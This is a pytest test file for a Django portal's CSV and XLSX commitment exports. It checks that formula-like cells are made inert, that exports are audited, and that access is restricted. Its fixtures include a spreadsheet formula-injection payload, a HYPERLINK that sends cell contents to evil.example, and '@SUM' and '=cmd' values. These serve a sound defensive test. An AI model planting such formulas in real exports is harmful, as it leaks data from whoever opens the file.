"""The list of commitments as CSV and XLSX: what the office takes to suppliers, made safe to open."""

import csv
import io
from datetime import datetime
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from portal.core.exports import neutralise
from portal.core.models import AuditLog
from portal.pooling import exports, services

from .conftest import add_member

HEADER = ["Enterprise", "Udyam number", "Contact person", "Email", "Phone", "Quantity", "Committed at"]


@pytest.fixture
def committed(yarn_pool, association_a, member_a):
    """Two ordinary commitments and one from an enterprise whose name and contact would run as formulas."""
    member_a.phone = "+919811112222"
    member_a.save(update_fields=["phone"])
    services.commitment_make(pooled_demand=yarn_pool, enterprise=member_a.enterprise, quantity="1500.5", by=member_a)
    sly = add_member(
        association_a,
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        email="sly@example.in",
        phone="+919800000001",
    )
    sly.full_name = "@SUM(1+1)"
    sly.save(update_fields=["full_name"])
    services.commitment_make(pooled_demand=yarn_pool, enterprise=sly.enterprise, quantity="250", by=sly)
    plain = add_member(association_a, "Palladam Processors")
    services.commitment_make(pooled_demand=yarn_pool, enterprise=plain.enterprise, quantity="4000", by=plain)
    return {"member": member_a, "sly": sly, "plain": plain}


def test_office_bearer_downloads_the_csv_with_one_row_per_commitment(client_for, bearer_a, yarn_pool, committed):
    response = client_for(bearer_a).get(reverse("pooling:export_csv", args=[yarn_pool.pk]))

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="pooled-demand-{yarn_pool.pk}-commitments.csv"'
    assert response["Cache-Control"] == "private, no-store"
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0] == HEADER
    member, plain = committed["member"], committed["plain"]
    assert rows[1][:6] == [
        "Palladam Processors",
        plain.enterprise.udyam_number,
        "Owner of Palladam Processors",
        plain.email,
        "'" + plain.enterprise.phone,
        "4000",
    ]
    assert rows[2][:6] == [
        "A Knit Works",
        member.enterprise.udyam_number,
        "Member A",
        "member-a@example.in",
        "'+919811112222",
        "1500.5",
    ]
    assert datetime.fromisoformat(rows[2][6])
    assert len(rows) == 4


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_made_inert(client_for, bearer_a, yarn_pool, committed):
    response = client_for(bearer_a).get(reverse("pooling:export_csv", args=[yarn_pool.pk]))

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    sly_row = rows[3]
    assert sly_row[0] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert sly_row[2] == "'@SUM(1+1)"
    assert sly_row[4] == "'+919800000001"
    for row in rows[1:]:
        for cell in row[:5]:
            assert not cell.startswith(("=", "+", "-", "@")), cell


def test_office_bearer_downloads_the_xlsx_with_the_same_rows_and_a_total(client_for, bearer_a, yarn_pool, committed):
    response = client_for(bearer_a).get(reverse("pooling:export_xlsx", args=[yarn_pool.pk]))

    assert response.status_code == 200
    assert response["Content-Type"] == exports.XLSX_CONTENT_TYPE
    assert response["Content-Disposition"] == f'attachment; filename="pooled-demand-{yarn_pool.pk}-commitments.xlsx"'
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == HEADER
    assert rows[1][:6] == (
        "Palladam Processors",
        committed["plain"].enterprise.udyam_number,
        "Owner of Palladam Processors",
        committed["plain"].email,
        "'" + committed["plain"].enterprise.phone,
        4000,
    )
    assert rows[2][0] == "A Knit Works" and rows[2][5] == 1500.5
    assert isinstance(rows[2][6], datetime)
    assert rows[5][0] == "Total" and rows[5][5] == 5750.5  # computed: the export holds no formula at all
    assert rows[6][:7] == ("Target", None, None, None, None, 20000, "kg")


def test_xlsx_cells_that_would_run_as_formulas_are_stored_as_inert_text(client_for, bearer_a, yarn_pool, committed):
    response = client_for(bearer_a).get(reverse("pooling:export_xlsx", args=[yarn_pool.pk]))

    sheet = load_workbook(io.BytesIO(response.content)).active
    name, person = sheet["A4"], sheet["C4"]
    assert name.value == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")' and name.data_type == "s"
    assert person.value == "'@SUM(1+1)" and person.data_type == "s"
    formulas = [cell.coordinate for row in sheet.iter_rows(max_row=4) for cell in row if cell.data_type == "f"]
    assert formulas == []


def test_every_export_is_audited(client_for, bearer_a, yarn_pool, committed):
    client = client_for(bearer_a)
    client.get(reverse("pooling:export_csv", args=[yarn_pool.pk]))
    client.get(reverse("pooling:export_xlsx", args=[yarn_pool.pk]))

    entries = AuditLog.objects.filter(action="pooled_demand.exported", actor=bearer_a).order_by("id")
    assert [(e.data["format"], e.data["count"]) for e in entries] == [("csv", 3), ("xlsx", 3)]


def test_an_empty_pool_exports_just_the_header(client_for, bearer_a, yarn_pool):
    response = client_for(bearer_a).get(reverse("pooling:export_csv", args=[yarn_pool.pk]))

    assert list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")))) == [HEADER]
    sheet = load_workbook(
        io.BytesIO(client_for(bearer_a).get(reverse("pooling:export_xlsx", args=[yarn_pool.pk])).content)
    ).active
    assert sheet["A1"].value == "Enterprise" and sheet["F3"].value == 0


def test_a_commitment_whose_person_has_left_falls_back_to_the_enterprises_contact(bearer_a, yarn_pool, member_a):
    services.commitment_make(pooled_demand=yarn_pool, enterprise=member_a.enterprise, quantity="10", by=member_a)
    member_a.delete()

    [row] = list(exports.rows(yarn_pool))

    enterprise = yarn_pool.commitments.get().enterprise
    assert row[2:6] == ["", enterprise.email, enterprise.phone, Decimal("10.000")]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+91 98765 43210", "'+91 98765 43210"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=cmd", "'\t=cmd"),
        ("\r=cmd", "'\r=cmd"),
        ("Sri Murugan Knits", "Sri Murugan Knits"),
        ("a=b", "a=b"),
        ("", ""),
        (Decimal("5"), Decimal("5")),
        (None, None),
    ],
)
def test_the_guard_prefixes_only_text_that_starts_like_a_formula(value, expected):
    assert neutralise(value) == expected


def test_the_export_is_refused_to_whoever_is_not_the_office_even_through_the_service(yarn_pool, member_a):
    from django.core.exceptions import PermissionDenied

    with pytest.raises(PermissionDenied):
        services.pooled_demand_export(pooled_demand=yarn_pool, fmt="csv", by=member_a)
    assert not AuditLog.objects.filter(action="pooled_demand.exported").exists()
